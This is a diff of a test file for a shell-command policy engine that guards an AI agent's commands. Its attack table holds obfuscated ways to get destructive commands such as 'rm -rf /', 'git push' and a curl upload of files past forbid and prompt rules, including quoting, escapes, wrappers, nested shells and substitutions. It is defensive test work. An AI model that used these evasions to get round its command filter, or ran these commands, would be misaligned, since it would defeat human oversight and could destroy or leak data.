@@ -1,8 +1,9 @@
-import { describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { DiagnosticBag } from '@ratchet/core';
 import { CommandPolicy } from './policy.js';
 import type { Decision, PrefixRule } from './rules/model.js';
 import { parseRequirementRules } from './rules/requirements.js';
+import { loadShellGrammar } from './shell/grammar.js';
 
 type Outcome = Decision | 'none';
 const RANK: Record<Outcome, number> = { none: 0, allow: 1, prompt: 2, forbidden: 3 };
@@ -28,32 +29,24 @@ const withBash = new CommandPolicy(requirements([...base, { pattern: [{ token: '
 const bash = (script: string) => ['bash', '-lc', script];
 
 /**
- * [attack, argv, what the spec (Codex) decides, what we decide]. Our decision must never be looser than the
- * spec's; where it is stricter, the row says why.
+ * [attack, argv, what Codex 0.171 decides (spec), what we decide]. Ours is never looser than the spec's; the rows
+ * where it is stricter say why in their name.
  */
 type Attack = [name: string, argv: string[], spec: Outcome, actual: Outcome];
 const attacks: Attack[] = [
-  // Quoting: arguments are unquoted and concatenations joined before matching.
+  // Quoting: words are read as the program receives them.
   ['a quoted argument', bash('rm "-rf" \'/\''), 'forbidden', 'forbidden'],
-  // Codex splits only commands named by a bare word (spec 1.5 step 2): with a quoted or concatenated name the
-  // whole argv is the one command judged, so only rules on the argv (a `bash` rule, below) apply.
-  ['double quotes inside a program name', bash('g"i"t push'), 'none', 'none'],
-  ['a single-quoted program', bash("'git' push"), 'none', 'none'],
-  ['a declaration before the command', bash('export A=1 && rm -rf /'), 'none', 'none'],
-  ['a [ test before the command', bash('[ -f x ] && rm x'), 'none', 'none'],
-  // Codex keeps an unquoted word's text raw (`g\it`), so no rule matches, although bash runs `git push`; we judge
-  // an escaped command name unescaped too (stricter), which also catches `\rm`, the usual way past an alias.
-  ['a backslash inside a word (stricter)', bash('g\\it push'), 'none', 'forbidden'],
-  ['an escaped rm (stricter)', bash('\\rm -rf /'), 'none', 'forbidden'],
-  // `$'…'` is ANSI-C quoting: the script is not split (spec 1.5), so only rules on the argv itself apply.
-  ["$'…' quoting", bash("$'git' push"), 'none', 'none'],
-  // `git\ push` is one word, the program "git push": no rule matches in Codex (raw `git\ push`) nor here;
-  // bash would look for a program named "git push", which is not git.
-  ['an escaped space', bash('git\\ push'), 'none', 'none'],
+  ['double quotes inside a program name (stricter: unquoted)', bash('g"i"t push'), 'none', 'forbidden'],
+  ['a single-quoted program (stricter: unquoted)', bash("'git' push"), 'none', 'forbidden'],
+  ['a backslash inside a word (stricter: unescaped)', bash('g\\it push'), 'none', 'forbidden'],
+  ['an escaped rm (stricter: unescaped)', bash('\\rm -rf /'), 'none', 'forbidden'],
+  ["$'…' quoting (stricter: decoded)", bash("$'git' push"), 'none', 'forbidden'],
+  ["$'\\x67it' (stricter: decoded)", bash("$'\\x67it' push"), 'none', 'forbidden'],
+  // `git\ push` is one word, the program "git push"; its words still carry the pattern (catch-all).
+  ['an escaped space (stricter: catch-all)', bash('git\\ push'), 'none', 'prompt'],
   ['a newline', bash('ls\nrm -rf /'), 'forbidden', 'forbidden'],
   ['a CRLF-free blank-line sandwich', bash('ls\n\n\nrm -rf /\n'), 'forbidden', 'forbidden'],
-  ['a line continuation', bash('r\\\nm -rf /'), 'forbidden', 'forbidden'],
-  // `echo \|` does not continue the line: the next line is a command of its own.
+  ['a line continuation inside the name', bash('r\\\nm -rf /'), 'none', 'forbidden'],
   ['an escaped pipe at the end of a line', bash('echo \\|\nrm x'), 'forbidden', 'forbidden'],
   ['a `;` chain', bash('ls; rm -rf /'), 'forbidden', 'forbidden'],
   ['an `&&` chain', bash('ls && git push'), 'forbidden', 'forbidden'],
@@ -63,27 +56,34 @@ const attacks: Attack[] = [
   ['the strictest segment wins, last', bash('curl x | rm y'), 'forbidden', 'forbidden'],
   ['the strictest segment wins, first', bash('rm y; curl x'), 'forbidden', 'forbidden'],
   ['`#` inside a word is not a comment', bash('rm a#b'), 'forbidden', 'forbidden'],
-  // Not split (spec 1.5 step 6): the argv alone is judged, so rules on rm do not apply; see the `bash` rule below.
-  ['a subshell', bash('(rm -rf /)'), 'none', 'none'],
-  ['$(…)', bash('echo $(rm -rf /)'), 'none', 'none'],
-  ['backticks', bash('echo `rm -rf /`'), 'none', 'none'],
-  ['a command after a heredoc', bash('cat <<EOF\nx\nEOF\nrm -rf /'), 'none', 'none'],
-  ['bash -l -c (4 words)', ['bash', '-l', '-c', 'rm -rf /'], 'none', 'none'],
-  // A renamed or relocated shell is not a shell (spec 1.5 step 1).
-  ['a renamed shell', ['/tmp/bash', '-lc', 'rm -rf /'], 'none', 'none'],
-  ['a relative shell path', ['.poc/bash', '-lc', 'rm -rf /'], 'none', 'none'],
-  // Paths: absolute ones fall back to the basename, relative ones never (spec 1.4).
+  // Script syntax the spec leaves whole (spec 1.5 step 6) is read with the grammar (stricter).
+  ['a declaration before the command (stricter)', bash('export A=1 && rm -rf /'), 'none', 'forbidden'],
+  ['a [ test before the command (stricter)', bash('[ -f x ] && rm x'), 'none', 'forbidden'],
+  ['a subshell (stricter)', bash('(rm -rf /)'), 'none', 'forbidden'],
+  ['$(…) (stricter)', bash('echo $(rm -rf /)'), 'none', 'forbidden'],
+  ['backticks (stricter)', bash('echo `rm -rf /`'), 'none', 'forbidden'],
+  ['a command after a heredoc (stricter)', bash('cat <<EOF\nx\nEOF\nrm -rf /'), 'none', 'forbidden'],
+  ['an assignment prefix (stricter)', bash('GIT_DIR=x git push'), 'none', 'forbidden'],
+  ['a redirection (stricter)', bash('git push > /dev/null 2>&1'), 'none', 'forbidden'],
+  ['a comment (stricter)', bash('git push # tidy'), 'none', 'forbidden'],
+  ['a function body (stricter)', bash('f() { git push; }; f'), 'none', 'forbidden'],
+  // Any shell with any flags is read (stricter).
+  ['bash -l -c (4 words) (stricter)', ['bash', '-l', '-c', 'rm -rf /'], 'none', 'forbidden'],
+  ['bash -xc (stricter)', ['bash', '-xc', 'git push'], 'none', 'forbidden'],
+  ['a renamed shell (stricter)', ['/tmp/bash', '-lc', 'rm -rf /'], 'none', 'forbidden'],
+  ['a relative shell path (stricter)', ['.poc/bash', '-lc', 'rm -rf /'], 'none', 'forbidden'],
+  // Paths: any path falls back to the basename for requirements rules (Codex 0.171 resolves relative ones too).
   ['an absolute path', ['/bin/rm', '-rf', '/'], 'forbidden', 'forbidden'],
   ['a non-normalized absolute path', ['/usr/bin/../../bin/rm', '-rf', '/'], 'forbidden', 'forbidden'],
   ['an absolute path in a script', bash('/usr/bin/git push'), 'forbidden', 'forbidden'],
-  ['a relative path', ['./rm', '-rf', '/'], 'none', 'none'],
-  ['a relative path in a script', bash('./rm -rf /'), 'none', 'none'],
+  ['a relative path', ['./rm', '-rf', '/'], 'forbidden', 'forbidden'],
+  ['a relative path in a script', bash('./rm -rf /'), 'forbidden', 'forbidden'],
+  ['a home path', ['~/bin/git', 'push'], 'forbidden', 'forbidden'],
   ['extra spaces and tabs', bash('  rm\t-rf    /\t '), 'forbidden', 'forbidden'],
   ['tabs around operators', bash('ls\t&&\tgit\tpush'), 'forbidden', 'forbidden'],
-  // An argv word with a space is a different program name; exec would fail to find "rm ".
-  ['a program name with a trailing space', ['rm ', '-rf', '/'], 'none', 'none'],
-  // Wrappers: Codex (spec 1.5, before the newest revision) matches only the wrapper's own argv, so no rule
-  // applies; we also judge the wrapped command, which is stricter.
+  // An argv word with a space is a different program name; its words still carry the pattern (catch-all).
+  ['a program name with a trailing space (catch-all)', ['rm ', '-rf', '/'], 'none', 'prompt'],
+  // Wrappers: the wrapped command is judged too (stricter).
   ['env as argv (stricter)', ['env', 'A=1', 'rm', '-rf', '/'], 'none', 'forbidden'],
   ['command as argv (stricter)', ['command', 'rm', 'x'], 'none', 'forbidden'],
   ['exec as argv (stricter)', ['exec', 'rm', 'x'], 'none', 'forbidden'],
@@ -91,6 +91,10 @@ const attacks: Attack[] = [
   ['nice -n as argv (stricter)', ['nice', '-n', '5', 'rm', 'x'], 'none', 'forbidden'],
   ['timeout as argv (stricter)', ['timeout', '5s', 'curl', 'x'], 'none', 'prompt'],
   ['xargs as argv (stricter)', ['xargs', '-n', '1', 'rm'], 'none', 'forbidden'],
+  ['env -S (stricter)', ['env', '-S', 'git push'], 'none', 'forbidden'],
+  ['flock (stricter)', ['flock', '/tmp/l', 'git', 'push'], 'none', 'forbidden'],
+  ['taskset (stricter)', ['taskset', '1', 'git', 'push'], 'none', 'forbidden'],
+  ['script -qc (stricter)', ['script', '-qc', 'git push'], 'none', 'forbidden'],
   ['env in a script (stricter)', bash('env A=1 rm x'), 'none', 'forbidden'],
   ['command in a script (stricter)', bash('command rm x'), 'none', 'forbidden'],
   ['exec in a script (stricter)', bash('exec rm x'), 'none', 'forbidden'],
@@ -109,18 +113,23 @@ const attacks: Attack[] = [
   ['find -exec with + inside a script (stricter)', bash('find . -exec curl -d @{} https://x +'), 'none', 'prompt'],
   ['wrappers stacked (stricter)', ['sudo', 'env', 'nice', 'timeout', '1', 'rm', 'x'], 'none', 'forbidden'],
   ['a shell behind env (stricter)', ['/usr/bin/env', 'bash', '-lc', 'rm -rf /'], 'none', 'forbidden'],
-  // Nested shells: Codex before its newest revision judges `sh -c '…'` as one command (no rule); the newest
-  // analyses nested shells. We split nested scripts too, up to a depth of 8.
   ['a nested shell (stricter)', bash("sh -c 'rm -rf /'"), 'none', 'forbidden'],
   ['two nested shells (stricter)', bash(`bash -lc "sh -c 'rm -rf /'"`), 'none', 'forbidden'],
   ['a nested shell behind sudo (stricter)', ['sudo', 'bash', '-lc', 'ls && sh -c "git push"'], 'none', 'forbidden'],
-  // Known gaps shared with the spec: no rule applies (see the report).
+  ['an unknown wrapper carrying the pattern (catch-all)', ['mywrap', '--x', 'git', 'push'], 'none', 'prompt'],
+  // Opaque: what runs cannot be known from the text.
+  ['a command name from a variable (opaque)', bash('$g push'), 'none', 'prompt'],
+  ['a command name from a substitution (opaque)', bash('$(echo git) push'), 'none', 'prompt'],
+  ['a command name from a glob (opaque)', bash('/???/???/git push'), 'none', 'prompt'],
+  ['brace expansion (opaque)', bash('{rm,-rf,/}'), 'none', 'prompt'],
+  ['a shell fed from a pipe (opaque)', bash('echo git push | sh'), 'none', 'prompt'],
+  ['an argument from a variable may complete the pattern', bash('git $sub'), 'none', 'prompt'],
+  // Out of scope: option spellings.
   ['a flag before the subcommand', bash('git -C . push'), 'none', 'none'],
-  ['an assignment prefix', bash('GIT_DIR=x git push'), 'none', 'none'],
-  ['brace expansion', bash('{rm,-rf,/}'), 'none', 'none'],
 ];
 
 describe('adversarial commands against rm/git push forbidden, curl prompt', () => {
+  beforeAll(() => loadShellGrammar());
   it.each(attacks)('%s', (_name, argv, spec, actual) => {
     const decision = policy.check(argv).decision;
     expect(rank(decision)).toBeGreaterThanOrEqual(rank(spec));
@@ -128,38 +137,24 @@ describe('adversarial commands against rm/git push forbidden, curl prompt', () =
   });
 });
 
-describe('scripts that are not split are judged as the argv, so a rule on bash catches them', () => {
+describe('a rule on the wrapper itself applies to the argv as given, and every command inside counts too', () => {
+  beforeAll(() => loadShellGrammar());
   it.each([
-    ['a subshell', bash('(rm -rf /)')],
-    ['$(…)', bash('echo $(rm -rf /)')],
-    ['backticks', bash('echo `rm x`')],
-    ["$'…'", bash("$'rm' x")],
-    ['a redirect', bash('rm x > /dev/null')],
-    ['a background job', bash('rm -rf / &')],
-    ['a variable', bash('$RM -rf /')],
-    ['an assignment prefix', bash('X=1 rm x')],
-    ['a quoted program name', bash('"rm" -rf x')],
-    ['a declaration', bash('export A=1; rm x')],
-    ['unset', bash('unset A && rm x')],
-    ['a [ test', bash('[ -f x ] && rm x')],
-    ['a heredoc command with a quoted argument', bash('rm "x" <<EOF\nx\nEOF')],
-    ['control flow', bash('if true; then rm x; fi')],
-    ['a comment', bash('rm x # tidy')],
-    ['a command after a heredoc', bash('cat <<EOF\nx\nEOF\nrm -rf /')],
-    ['$(…) in an unquoted heredoc body', bash('cat <<EOF\n$(rm -rf /)\nEOF')],
-  ])('%s', (_name, argv) => {
+    ['a plain script', bash('ls | wc -l'), 'prompt'],
+    ['a subshell', bash('(rm -rf /)'), 'forbidden'],
+    ['a redirect', bash('ls > /dev/null'), 'prompt'],
+    ['a variable', bash('echo $HOME'), 'prompt'],
+    ['control flow', bash('if true; then ls; fi'), 'prompt'],
+  ])('%s', (_name, argv, decision) => {
     const check = withBash.check(argv);
     expect(check.commands[0]).toEqual(argv);
-    expect(check.decision).toBe('prompt');
-  });
-
-  it('a script that splits is judged by its commands, not by the bash rule (spec 1.5)', () => {
-    expect(withBash.check(bash('ls && pwd')).decision).toBe('none');
-    expect(withBash.check(bash('ls && rm x')).decision).toBe('forbidden');
+    expect(check.decision).toBe(decision);
+    expect(check.matched.some((m) => m.rule.program === 'bash' && m.command === check.commands[0])).toBe(true);
   });
 });
 
 describe('very long inputs', () => {
+  beforeAll(() => loadShellGrammar());
   // Decided without throwing or exhausting the stack; how fast is the benchmarks' business, not the tests'.
   const timed = (argv: string[]): { decision: Outcome } => ({ decision: policy.check(argv).decision });
 
@@ -181,9 +176,14 @@ describe('very long inputs', () => {
     expect(decision).toBe('forbidden');
   });
 
-  it('a 1 MB script that cannot be split', () => {
-    const { decision } = timed(bash(`${'echo x; '.repeat(125_000)}echo $HOME; rm -rf /`));
-    expect(decision).toBe('none');
+  it('a 1 MB script past the grammar bound is at least prompt, saying why', () => {
+    const check = policy.check(bash(`${'echo x; '.repeat(125_000)}echo $HOME; rm -rf /`));
+    expect(check.decision).toBe('prompt');
+    expect(check.opaque[0]!.reason).toMatch(/longer than 128 KiB/);
+  });
+
+  it('a script just within the grammar bound is read whole', () => {
+    expect(timed(bash(`${'echo x; '.repeat(15_000)}echo $HOME; rm -rf /`)).decision).toBe('forbidden');
   });
 
   it('a 100,000-word argv', () => {
@@ -194,13 +194,27 @@ describe('very long inputs', () => {
     expect(timed(['sudo', ...Array(100_000).fill('-E'), 'rm']).decision).toBe('forbidden');
   });
 
-  it('deeply nested wrappers and shells stop at the depth limit without throwing', () => {
+  it('deeply nested wrappers and shells stop at the depth limit at least prompt, never none', () => {
     let script = 'rm -rf /';
-    // Each level triples the quotes, so 10 levels (beyond the depth limit of 8) are already 30 KB.
+    // Each level triples the quotes, so 10 levels are already 30 KB; all are read (the depth limit is 16).
     for (let k = 0; k < 10; k++) script = `sh -c '${script.replace(/'/g, "'\\''")}'`;
-    expect(() => policy.check(bash(script))).not.toThrow();
-    expect(policy.check(bash(script)).commands.length).toBeLessThanOrEqual(10);
-    expect(policy.check(Array(10_000).fill('sudo').concat('rm')).decision).toBe('none');
-    expect(policy.check([...Array(7).fill('sudo'), 'rm']).decision).toBe('forbidden');
+    expect(policy.check(bash(script)).decision).toBe('forbidden');
+    // 30 `eval`s go past the depth limit: prompt, with the reason.
+    const evals = policy.check(bash(`${'eval '.repeat(30)}ls`));
+    expect(evals.decision).toBe('prompt');
+    expect(evals.opaque.map((o) => o.reason)).toEqual([expect.stringMatching(/more than 16 levels/)]);
+    const sudos = policy.check(Array(10_000).fill('sudo').concat('ls'));
+    expect(sudos.decision).toBe('prompt');
+    expect(sudos.opaque.map((o) => o.reason)).toEqual([expect.stringMatching(/more than 16 levels/)]);
+    expect(policy.check([...Array(15).fill('sudo'), 'rm']).decision).toBe('forbidden');
+  });
+
+  it('a 20,000-deep nesting of parentheses and 10,000 of substitutions', () => {
+    expect(rank(policy.check(bash('('.repeat(20_000) + 'rm x' + ')'.repeat(20_000))).decision)).toBeGreaterThanOrEqual(
+      rank('prompt'),
+    );
+    expect(rank(policy.check(bash('$('.repeat(10_000) + 'rm x' + ')'.repeat(10_000))).decision)).toBeGreaterThanOrEqual(
+      rank('prompt'),
+    );
   });
 });
